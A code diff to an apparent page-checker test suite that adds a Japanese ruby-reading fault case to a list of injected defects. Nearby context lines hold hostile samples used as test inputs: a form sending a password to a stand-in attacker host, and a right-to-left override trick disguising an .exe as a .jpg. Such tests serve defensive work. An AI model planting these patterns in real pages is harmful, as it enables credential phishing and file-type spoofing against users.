@@ -92,6 +92,7 @@ PAGES = Batch(
             add(EN, '<form action="https://evil.example/"><input name="password"></form>'),
         ),
         Fault("a template that was not filled", "output/template", EN, add(EN, "<p>{{ certificate }}</p>")),
+        Fault("a reading beside its word", "output/reading", HOME, add(HOME, "<p>｜課《か》に。</p>")),
         Fault("letters that turn the text around", "site/unseen", EN, add(EN, "<p>Open \u202egpj.exe</p>")),
         Fault("the same place twice", "output/twice", EN, add(EN, '<p id="steps">Steps</p>')),
         Fault(
